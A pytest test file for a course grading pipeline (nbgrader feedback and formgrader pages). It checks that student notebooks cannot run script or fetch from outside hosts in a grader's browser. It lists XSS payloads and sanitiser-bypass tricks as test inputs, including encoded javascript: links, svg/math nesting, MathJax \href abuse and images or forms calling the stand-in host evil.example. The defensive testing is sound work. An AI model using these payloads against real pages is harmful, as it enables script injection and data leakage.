"""Nothing that a submission writes or displays runs in the browser of whoever grades; what is harmless stays."""

import re
from urllib.parse import quote

import nbformat
import pytest
from lxml import html
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from llmlab.grading import clean
from llmlab.grading.feedback import Feedback
from llmlab.grading.release import config, find
from llmlab.grading.rubric import NO_MATHJAX

RUNS = [
    "<script>evil()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=evil()>",
    "<img src='x' onerror\n=evil()>",
    "<svg onload=evil()><script>evil()</script></svg>",
    "<svg><style><img src=x onerror=evil()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=evil()></style></mglyph></table></mtext></math>",
    '<a href="javascript:evil()">押す</a>',
    '<a href="java&#x0A;script:evil()">押す</a>',
    '<a href=" data:text/html,<script>evil()</script>">押す</a>',
    '<iframe srcdoc="<script>evil()</script>"></iframe>',
    "<object data='evil.swf'></object><embed src='evil.swf'>",
    "<form action='//evil.example'><button>送る</button></form>",
    "<details open ontoggle=evil()>x</details>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<img src='//evil.example/seen.png'><img src='https://evil.example/seen.png'>",
    '<img src="https&#58;//evil.example/seen.png">',
    '<img src="ht&#10;tps://evil.example/seen.png">',
    '<img src="&#47;/evil.example/seen.png">',
    '<img src="/\\evil.example/seen.png">',
    '<img src="/&#92;evil.example/seen.png">',
    '<a href="data&#58;text/html,&lt;script&gt;evil()&lt;/script&gt;">押す</a>',
]
ELEMENTS = {"script", "svg", "math", "style", "iframe", "object", "embed", "form", "button", "base", "meta", "link", "input"}


def problems(page: str, allowed=()) -> list[str]:
    """Return what would run or be fetched in a page, as a browser's parser (here libxml2's) reads it."""
    found = []
    for element in html.document_fromstring(f"<html><body>{page}</body></html>").iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in ELEMENTS and element.text not in allowed:
            found.append(element.tag)
        for name, value in element.attrib.items():
            plain = "".join(value.split()).lower().replace("\\", "/")
            bad = plain.startswith(("javascript:", "vbscript:", "data:text", "//evil", "https://evil"))
            if name.startswith("on") or bad or (name == "style" and "url" in value):
                found.append(f"{element.tag} {name}={value}")
    return found


@pytest.mark.parametrize("source", RUNS)
def test_what_runs_is_taken_out(source):
    assert problems(source), "the check can fail"
    assert problems(clean.clean(source)) == []


@pytest.mark.parametrize(
    "source",
    [
        "<p>日本語の文と <strong>強調</strong>、<code>a &lt; b</code></p>",
        '<table class="dataframe"><thead><tr><th>語</th></tr></thead><tbody><tr><td>1.5</td></tr></tbody></table>',
        '<img src="data:image/png;base64,AAAA" alt="図">',
        "<details><summary>ヒント</summary>x</details>",
        '<a href="https://example.org/a">資料</a>',
        "<ruby>漢字<rt>かんじ</rt></ruby>",
        '<pre><code class="language-python">x</code></pre>',
    ],
)
def test_what_is_harmless_stays(source):
    assert clean.clean(source) == source


def test_stylesheet_of_a_data_frame_is_dropped():
    assert clean.clean("<div><style scoped>\n.a { color: red; }\n</style><table></table></div>") == "<div><table></table></div>"


def test_dropping_a_stylesheet_makes_no_script():
    assert problems(clean.clean("<scr<style></style>ipt>evil()</scr<style></style>ipt>")) == []


@pytest.mark.parametrize(
    "formula",
    [
        r"\href{javascript:evil()}{x}",
        r"\let\h\href\h{javascript:evil()}{x}",
        r"\newcommand\h[1]{\href{#1}{x}}\h{javascript:evil()}",
        r"\&#104;ref{javascript:evil()}{x}",
        r"&#x5c;href{javascript:evil()}{x}",
        r"\hr<!-- -->ef{javascript:evil()}{x}",
        r"\style{background:url(//evil.example/x)}{x}",
        r'\mmlToken{mi}[href="javascript:evil()"]{x}',
        r"\bbox[background:url(//evil.example/x)]{x}",
    ],
)
def test_link_in_a_formula_runs_nothing(formula):
    shown = html.fromstring(clean.clean(f"<p>${formula}$</p>")).text_content()
    assert "x" in shown
    assert not re.search(r"\\(href|style|mmlToken|bbox)", shown)


def test_harmless_commands_of_a_formula_stay():
    for formula in (r"\href{https://example.org}{x}", r"\textstyle\sum x", r"\displaystyle x", r"a &lt; b &amp; c"):
        assert formula in clean.clean(f"<p>${formula}$</p>")


@pytest.mark.parametrize("value", ["&sol;/evil.example/x.png", "/&bsol;evil.example/x.png", "&Tab;https&colon;//evil.example/x.png"])
def test_named_letters_of_an_address_are_read(value):
    """Names that a browser knows and libxml2 does not."""
    assert "evil" not in clean.clean(f'<img src="{value}">')


@pytest.mark.parametrize("name", ["title", "src"])
def test_a_number_that_is_too_long_for_python_stops_no_page(name):
    number = f"&#{'9' * 5000};"
    assert "答え" in clean.clean(f'<img {name}="{number}">答え')
    assert "答え" in page_of(new_notebook(cells=[new_markdown_cell(f"答え ![図]({number})")]))


def page_of(notebook) -> str:
    """Return the page as feedback and formgrader make it: with the filters and steps of nbgrader_config.py."""
    settings = config()
    exporter = Feedback(config=settings)
    exporter.template_name = "classic"
    exporter.raw_template = "{% extends 'classic/index.html.j2' %}{% block html_head %}{% endblock %}{% block header %}{% endblock %}"
    text, _ = exporter.from_notebook_node(notebook)
    return text


def displayed(data: dict, metadata=None) -> str:
    cell = new_code_cell("show()", outputs=[new_output("display_data", data=data, metadata=metadata or {})], execution_count=1)
    return page_of(new_notebook(cells=[cell]))


def test_outputs_run_nothing_and_say_what_was_left_out():
    page = displayed({"application/javascript": "evil()"})
    assert "evil()" not in page
    assert "安全のため表示しません: application/javascript" in page
    for kind in ("text/html", "text/markdown"):
        for source in RUNS:
            assert problems(displayed({kind: source})) == [], (kind, source)
    svg = displayed({"image/svg+xml": "<svg onload='evil()'><script>evil()</script></svg>"})
    assert problems(svg) == [] and "data:image/svg+xml;base64" in svg


def test_pictures_and_tables_are_shown():
    page = displayed({"image/png": "AAAA", "text/plain": "<Figure>"}, {"image/png": {"width": 300, "height": 200}})
    assert 'src="data:image/png;base64,AAAA"' in page and 'width="300"' in page
    assert "<th>語</th>" in displayed({"text/html": "<table><tr><th>語</th></tr></table>", "text/plain": "x"})


def test_metadata_of_an_output_writes_no_attribute():
    page = displayed({"image/png": "AAAA"}, {"image/png": {"width": "1 onerror=evil()", "height": True}})
    assert "evil" not in page
    isolated = displayed({"text/html": "<script>evil()</script>"}, {"text/html": {"isolated": True}})
    assert "<iframe" not in isolated


SHOWN = "data:image/png;base64,AAAA"
NAMES = [  # of a picture, and how a cell names it
    ("a.png", "a.png"), ("図1.png", "図1.png"), ("図1.png", quote("図1.png")), ("図 1.png", quote("図 1.png")),
    ("図%201.png", "図%201.png"), ("a(1).png", "a%281%29.png"), ("100%.png", "100%.png"), ("a&b.png", "a&b.png"),
]  # fmt: skip
FORMS = ["![図](attachment:{})", "![図][1]\n\n[1]: attachment:{}", '<img width="300" src="attachment:{}">', "x <img src=attachment:{}>"]


@pytest.mark.parametrize("form", FORMS)
def test_pasted_picture_is_found_whatever_its_name(form):
    cells = [new_markdown_cell(form.format(said), attachments={name: {"image/png": "AAAA"}}) for name, said in NAMES]
    for page in (page_of(new_notebook(cells=cells)), formgraders_page(cells)):
        assert page.count(SHOWN) == len(NAMES) and clean.MISSING not in page


@pytest.mark.parametrize("form", FORMS)
def test_missing_picture_stops_no_page(form):
    several = [{}, {"他.png": {"image/png": "AAAA"}}, {"図1.png": {}}]
    cells = [new_markdown_cell("答えです。" + form.format("図1.png")) for _ in several]
    for cell, own in zip(cells, several, strict=True):
        cell.attachments = own
    for page in (page_of(new_notebook(cells=cells)), formgraders_page(cells)):
        assert page.count("答えです。") == page.count(f'src="{clean.MISSING}"') == len(several)
    assert clean.MISSING in displayed({"text/markdown": form.format("図1.png")})


def test_markdown_of_a_student_runs_nothing_and_keeps_its_form():
    text = "# 見出し\n\n> 引用\n\n| 語 | 数 |\n|---|--:|\n| a | 1 |\n\n`a < b`、$a < b$\n\n![図](attachment:a.png)\n\n" + "\n\n".join(RUNS)
    cell = new_markdown_cell(text, attachments={"a.png": {"image/png": "AAAA"}})
    page = page_of(new_notebook(cells=[cell, new_raw_cell("<script>evil()</script>")]))
    assert problems(page) == []
    for kept in ("<blockquote>", "<table>", "見出し", "<code>a &lt; b</code>", "data:image/png;base64,AAAA"):
        assert kept in page


def test_formgraders_own_stand_in_for_mathjax_stays():
    page = page_of(new_notebook(cells=[new_markdown_cell(NO_MATHJAX)]))
    assert "window.MathJax" in page and "<script>" in page
    changed = page_of(new_notebook(cells=[new_markdown_cell(NO_MATHJAX + "<script>evil()</script>")]))
    assert "<script>" not in changed


def formgraders_page(cells) -> str:
    """Return formgrader's page of a submission, as its extension sets it up (nbgrader.server_extensions.formgrader)."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers

    settings = config()
    settings.HTMLExporter.template_name = "formgrade"
    settings.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {
        "submission_id": "1", "notebook_id": "1", "assignment_id": "05_bert_structure", "index": 0, "total": 1,
        "next_submission_id": "", "prev_submission_id": "", "filename": "x", "base_url": "/", "my_token": "", "mathjax_url": "",
    }  # fmt: skip
    page, _ = HTMLExporter(config=settings).from_notebook_node(new_notebook(cells=cells), resources=resources)
    return page


def test_formgraders_own_page_is_clean_and_keeps_the_rubric():
    solution = nbformat.read(find("05_bert_structure"), as_version=4)
    written = next(cell for cell in solution.cells if cell.cell_type == "markdown" and cell.metadata.get("nbgrader"))
    written.source = "答えです。" + "".join(RUNS)
    shown = new_code_cell("show()", outputs=[new_output("display_data", data={"text/html": "".join(RUNS)})])
    page = formgraders_page([written, shown])
    body = html.document_fromstring(page)
    assert "答えです。" in page
    assert not [one for one in body.iter("script") if "evil" in (one.text or "") + one.get("src", "")]
    assert not [one for one in body.iter() if isinstance(one.tag, str) and any("evil" in value for value in one.attrib.values())]
    assert "window.MathJax" in page
    assert "採点のために（学生には見えません）" in page
